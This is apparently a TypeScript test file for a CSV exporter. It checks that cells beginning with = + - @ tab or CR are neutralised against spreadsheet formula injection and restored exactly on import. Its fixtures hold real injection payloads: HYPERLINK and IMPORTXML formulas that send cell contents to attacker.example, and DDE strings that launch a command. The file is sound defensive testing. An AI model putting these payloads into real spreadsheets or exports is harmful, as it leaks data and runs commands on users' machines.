/**
 * Issue 13.9, spreadsheet formula injection: `toCsv` (and `convert --to csv`) must not write a
 * cell a spreadsheet would run as a formula. Cells starting with = + - @ tab or CR get a leading
 * single quote (OWASP, "CSV Injection"); a `;` is quoted so a semicolon-separated locale cannot
 * start a new cell inside a value; and `fromCsv` takes the quote off again, so our CSV
 * round-trips exactly.
 */
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../src/formats/csv.ts';
import { neutraliseFormula, restoreFormula } from '../../../src/formats/csv-formula.ts';
import { fromCsv } from '../../../src/formats/csv-import.ts';
import { toCsv } from '../../../src/formats/csv-export.ts';
import { parseDataset } from '../../../src/model/parse-dataset.ts';
import type { Dataset } from '../../../src/model/types.ts';
import { rawDataset } from '../helpers.ts';

/** Payloads from the OWASP page and public write-ups, one per trigger. */
const PAYLOADS = [
  '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  '+SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '=1+1',
  // Already quoted, or led by white space: must still read back exactly as written.
  "'=1+1",
  "''+1",
  " '@x",
];

/** A dataset whose every text column holds one payload. */
function hostileDataset(): Dataset {
  const data = rawDataset(PAYLOADS.map((_, i) => ({ id: `e${i}`, date: String(2000 + i), actors: ['g1'], victims: ['v1'] }))) as Record<string, any>;
  PAYLOADS.forEach((payload, i) => {
    data.events[i].title = payload;
    data.events[i].description = payload;
    data.events[i].dateNote = payload;
  });
  data.actors[0].name = '=IMPORTXML(CONCAT("https://attacker.example/?", A2), "//a")';
  data.victims[0].name = '@evil';
  data.victims[0].sector = '+sector';
  data.sources[0].title = '-1+1';
  data.sources[0].publisher = '=publisher';
  const result = parseDataset(data);
  if (!result.ok) throw new Error(result.issues.map((i) => i.message).join('\n'));
  return result.dataset;
}

const TRIGGER = /^[=+\-@\t\r]/;

describe('issue 13.9: CSV export neutralises formulas', () => {
  it('no written cell starts with = + - @ tab or CR (header and every row, every column)', () => {
    const parsed = parseCsv(toCsv(hostileDataset()));
    if (!parsed.ok) throw new Error(parsed.message);
    const cells = parsed.rows.flatMap((row) => row.cells);
    expect(cells.length).toBeGreaterThan(PAYLOADS.length * 10);
    const dangerous = cells.filter((cell) => TRIGGER.test(cell) || TRIGGER.test(cell.trimStart()));
    expect(dangerous, 'cells a spreadsheet would run').toEqual([]);
    // Each payload is still there, behind its quote.
    for (const payload of PAYLOADS) expect(cells).toContain(`'${payload}`);
  });

  it('a cell holding ";" is quoted, so a spreadsheet splitting on ";" cannot start a formula cell inside it', () => {
    const data = rawDataset([{ id: 'e1', date: '2019' }]) as Record<string, any>;
    data.events[0].description = 'plain;=1+1';
    data.events[0].title = 'a;@SUM(A1)';
    const result = parseDataset(data);
    if (!result.ok) throw new Error('bad fixture');
    const row = toCsv(result.dataset).split('\r\n')[1]!;
    expect(row).toContain('"a;@SUM(A1)"');
    expect(row).toContain('"plain;=1+1"');
    // Split the way such a spreadsheet would, honouring quotes: no cell starts with a trigger.
    const cells = row.match(/"(?:[^"]|"")*"|[^;,]+/g) ?? [];
    expect(cells.filter((cell) => TRIGGER.test(cell))).toEqual([]);
  });

  it('our own CSV reads back exactly: the importer removes only the quote the exporter added', () => {
    const dataset = hostileDataset();
    const back = fromCsv(toCsv(dataset));
    if (!back.ok) throw new Error(back.issues.map((i) => i.message).join('\n'));
    const strip = (text: string) => text.trim();
    expect(back.json.events.map((e) => e.title).sort()).toEqual(dataset.events.map((e) => strip(e.title)).sort());
    expect(back.json.events.map((e) => e.description).sort()).toEqual(dataset.events.map((e) => strip(e.description)).sort());
    expect(back.json.events.map((e) => e.dateNote).sort()).toEqual(dataset.events.map((e) => e.when.note && strip(e.when.note)).sort());
    expect(back.json.actors.map((a) => a.name)).toEqual([dataset.actors.find((a) => a.id === 'g1')!.name]);
    expect(back.json.victims.map((v) => [v.name, v.sector])).toEqual([['@evil', '+sector']]);
    expect(back.json.sources.map((s) => [s.title, s.publisher])).toEqual([['-1+1', '=publisher']]);
  });

  it('neutraliseFormula and restoreFormula are exact inverses, and leave other text alone', () => {
    const values = [...PAYLOADS, '\rx', '', 'plain', "it's", "'quoted'", "'", "''", ' =x', "' ' -x", '2019', '-', 'a=b', '@'];
    for (const value of values) {
      const written = neutraliseFormula(value);
      expect(restoreFormula(written), JSON.stringify(value)).toBe(value);
      expect(TRIGGER.test(written.trimStart()), JSON.stringify(written)).toBe(false);
    }
    for (const plain of ['plain', "it's", "'quoted'", '2019', 'a=b', '']) expect(neutraliseFormula(plain)).toBe(plain);
    // A quote a person typed before a formula means "text" in a spreadsheet too: it is read as that text.
    expect(restoreFormula("'=A1")).toBe('=A1');
    expect(restoreFormula("'plain")).toBe("'plain");
  });
});
